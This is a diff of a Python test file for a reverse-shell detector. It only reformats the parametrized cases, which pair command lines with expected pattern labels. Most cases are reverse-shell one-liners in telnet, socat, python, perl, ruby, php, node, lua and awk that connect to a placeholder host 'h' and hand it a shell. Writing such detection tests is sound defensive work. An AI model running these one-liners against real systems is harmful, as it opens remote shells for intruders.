@@ -235,12 +235,27 @@ def test_exclusions_apply_to_the_launcher_only() -> None:
         (["sh", "-c", "telnet h 1 | /bin/sh | telnet h 2"], "piped-relay"),
         (["socat", "TCP:h:1", "EXEC:'bash -li',pty,stderr"], "socat-exec"),
         (["socat", "openssl-connect:h:1,verify=0", "system:sh"], "socat-exec"),
-        (["python3", "-c", "import socket,os;s=socket.socket();s.connect(('h',1));os.dup2(3,0)"], "python-socket"),
-        (["perl", "-e", 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);open(STDIN,">&S");exec("sh");'], "perl-socket"),
-        (["ruby", "-rsocket", "-e", "c=TCPSocket.new('h',1);exec sprintf('sh <&%d',c.fileno)"], "ruby-socket"),
+        (
+            ["python3", "-c", "import socket,os;s=socket.socket();s.connect(('h',1));os.dup2(3,0)"],
+            "python-socket",
+        ),
+        (
+            ["perl", "-e", 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);open(STDIN,">&S");exec("sh");'],
+            "perl-socket",
+        ),
+        (
+            ["ruby", "-rsocket", "-e", "c=TCPSocket.new('h',1);exec sprintf('sh <&%d',c.fileno)"],
+            "ruby-socket",
+        ),
         (["php", "-r", '$s=fsockopen("h",1);exec("/bin/sh -i <&3 >&3 2>&3");'], "php-socket"),
-        (["node", "-e", "c=require('net').connect(1,'h');require('child_process').spawn('sh')"], "node-socket"),
-        (["lua", "-e", "s=require('socket').tcp();s:connect('h',1);os.execute('/bin/sh -i <&3')"], "lua-socket"),
+        (
+            ["node", "-e", "c=require('net').connect(1,'h');require('child_process').spawn('sh')"],
+            "node-socket",
+        ),
+        (
+            ["lua", "-e", "s=require('socket').tcp();s:connect('h',1);os.execute('/bin/sh -i <&3')"],
+            "lua-socket",
+        ),
         (["awk", 'BEGIN{s="/inet/tcp/0/h/1";while(1){s|&getline c;}}'], "awk-inet"),
         (["bash", "-c", "cat < /dev/null > /dev/tcp/db/5432"], None),
         (["bash", "-c", "(echo > /dev/tcp/db/5432) >/dev/null 2>&1"], None),
@@ -254,6 +269,6 @@ def test_exclusions_apply_to_the_launcher_only() -> None:
         (["sh", "-c", "rsync -a /a /b; sync"], None),
         ([], None),
     ],
-)  # fmt: skip
+)
 def test_command_lines(argv: list[str], pattern: str | None) -> None:
     assert reverse_shell_pattern(argv) == pattern
